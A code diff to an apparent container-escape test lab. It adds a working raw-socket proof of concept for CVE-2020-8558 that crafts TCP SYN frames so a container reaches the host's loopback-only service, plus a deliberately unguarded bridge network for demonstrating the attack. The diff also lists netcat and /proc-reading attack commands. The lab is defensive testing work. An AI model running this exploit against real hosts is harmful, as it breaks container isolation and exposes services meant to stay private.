@@ -13,6 +13,8 @@ Nothing here changes the host, even when an attack succeeds: escapes read a mark
 file, signal 0 and trace a sleeping process the lab starts for the purpose, connect
 to a loopback port the lab opens, and probe the kernel's switches (/proc/sys,
 sysrq-trigger) only with access(2), which asks "could I write?" without writing.
+The packet for 127.0.0.1 goes only to a bridge the lab made, and asks only for a TCP
+handshake with the lab's own loopback service, which it then resets.
 Router advertisements go only to bridges the lab made for them, with a prefix from
 the documentation range (2001:db8::/32) and no default route; the bridges go after.
 The device node an image (or a host directory given as a volume) brings names a loop
@@ -59,6 +61,7 @@ class Target:
     disk: str        # major:minor of the host's root filesystem device
     network: str     # a bridge network of the lab's own (as the runtime makes them)
     network_taking_ras: str   # the same, but taking IPv6 router advertisements
+    network_unguarded: str    # the same, but letting packets for 127.0.0.0/8 in
     image: str       # the busybox image plus /lab-disk, a node for a host loop device
     fd: int          # an open directory fd of the caller's, on the marker's directory
     volume: str      # a host directory holding lab-disk, a node for the same loop device
@@ -150,6 +153,92 @@ def bridge_took_the_advertisement(container: Container) -> str:
             return f"the host's {bridge} took " + ", ".join(learnt)
         time.sleep(0.1)
     return ""
+
+
+def reach_host_loopback_through_the_bridge(target: Target) -> None:
+    """Send the host a TCP SYN for 127.0.0.1:PORT, in an Ethernet frame addressed to the
+    bridge (an AF_PACKET socket: NET_RAW, which a default container keeps). With
+    route_localnet on the bridge (there for published ports) the host takes it as its
+    own; a SYN-ACK back from 127.0.0.1 proves its loopback-only service answered
+    (CVE-2020-8558). Our kernel drops that answer as a martian, but the raw socket sees
+    it first; then a reset, so the service keeps nothing half-open of ours."""
+    gateway = _default_gateway()
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        probe.connect((gateway, 9))          # the discard port: only to learn its MAC,
+        probe.send(b"")                      # and which address is ours
+        source = probe.getsockname()[0]
+    ours = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().replace(":", ""))
+    theirs = _neighbour_mac(gateway)
+    port, sport, seq = target.port, 40000 + os.getpid() % 20000, 1
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as raw:
+        raw.bind(("eth0", 0x0800))
+        raw.settimeout(0.2)
+        deadline = time.monotonic() + 3
+        while time.monotonic() < deadline:
+            raw.send(theirs + ours + b"\x08\x00" + _tcp_packet(source, sport, port, seq, 0x02))
+            for _ in range(5):
+                try:
+                    frame = raw.recv(2048)
+                except TimeoutError:
+                    break
+                if _is_syn_ack(frame, sport, port):
+                    raw.send(theirs + ours + b"\x08\x00"
+                             + _tcp_packet(source, sport, port, seq + 1, 0x04))   # RST
+                    print(f"SYN-ACK from 127.0.0.1:{port}: the host's loopback service "
+                          "answered", flush=True)
+                    return
+    print(f"no answer from 127.0.0.1:{port} through {gateway}", flush=True)
+    raise SystemExit(1)
+
+
+def _default_gateway() -> str:
+    """The default route's gateway, from /proc/net/route (hex, little-endian)."""
+    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
+        fields = line.split()
+        if fields[1] == "00000000":
+            return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
+    raise SystemExit("no default route")
+
+
+def _neighbour_mac(address: str) -> bytes:
+    """The MAC address of neighbour `address`, once ARP has found it (/proc/net/arp)."""
+    for _ in range(50):
+        for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
+            fields = line.split()
+            if fields[0] == address and fields[2] == "0x2":
+                return bytes.fromhex(fields[3].replace(":", ""))
+        time.sleep(0.05)
+    raise SystemExit(f"no MAC address for {address}")
+
+
+def _checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071): ones' complement of the ones' complement sum."""
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def _tcp_packet(source: str, sport: int, port: int, seq: int, flags: int) -> bytes:
+    """An IPv4 packet from `source` to 127.0.0.1 holding one TCP segment without data."""
+    src, dst = socket.inet_aton(source), socket.inet_aton("127.0.0.1")
+    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, flags, 64240, 0, 0)
+    tcp = tcp[:16] + struct.pack("!H", _checksum(src + dst + struct.pack("!BBH", 0, 6, 20)
+                                                 + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0x4000, 64, 6, 0, src, dst)
+    return ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:] + tcp
+
+
+def _is_syn_ack(frame: bytes, sport: int, port: int) -> bool:
+    """Is this Ethernet frame a SYN-ACK from 127.0.0.1:port to our `sport`?"""
+    ip = frame[14:]
+    if frame[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6 or ip[12:16] != bytes(
+            [127, 0, 0, 1]):
+        return False
+    tcp = ip[(ip[0] & 0x0F) * 4:]
+    source_port, destination_port = struct.unpack("!HH", tcp[:4])
+    return (source_port, destination_port) == (port, sport) and tcp[13] & 0x12 == 0x12
 
 
 def open_a_joining_process_exe(target: Target, seconds: float = 8) -> None:
@@ -283,6 +372,11 @@ ATTACKS = [
            behind_it=({"security": Security(seccomp=False)}, "capabilities (no SYS_MODULE)")),
     Attack("reach a host loopback service", "echo hello | nc -w 2 127.0.0.1 $PORT",
            "network namespace", shown_with={"namespaces": NOT_NET}),
+    Attack("reach a host loopback service through the bridge (CVE-2020-8558)",
+           reach_host_loopback_through_the_bridge,
+           "a rule dropping what the bridge sends to 127.0.0.0/8 (route_localnet is on)",
+           shown_with={"network": lambda bait: bait.network_unguarded},
+           options={"network": lambda bait: bait.network}),
     Attack("read the host kernel's internals",
            "cat /proc/timer_list /proc/interrupts /proc/keys 2>/dev/null | grep .",
            "masked paths", shown_with={"security": Security(system_paths=False)}),
@@ -319,7 +413,7 @@ def target() -> Iterator[Target]:
     threading.Thread(target=_answer, args=(listener,), daemon=True).start()
     disk = os.stat("/").st_dev
     tag = os.urandom(3).hex()
-    networks = [f"mc-lab{tag}", f"mc-labra{tag}"]     # ours alone, one pair per lab
+    networks = [f"mc-lab{tag}", f"mc-labra{tag}", f"mc-labio{tag}"]   # ours alone
     with tempfile.TemporaryDirectory(prefix="mc-escape-") as directory:
         marker = Path(directory) / "marker"
         marker.write_text(f"host-only-{os.urandom(6).hex()}")
@@ -330,6 +424,7 @@ def target() -> Iterator[Target]:
         try:
             network.create(networks[0])
             network.create(networks[1], router_advertisements=True)
+            network.create(networks[2], localnet_guard=False)
             loop = attach_loop_device(marker)
             image = image_with_a_node(Path(directory) / "image", loop)
             volume = with_a_node(Path(directory) / "volume", loop)
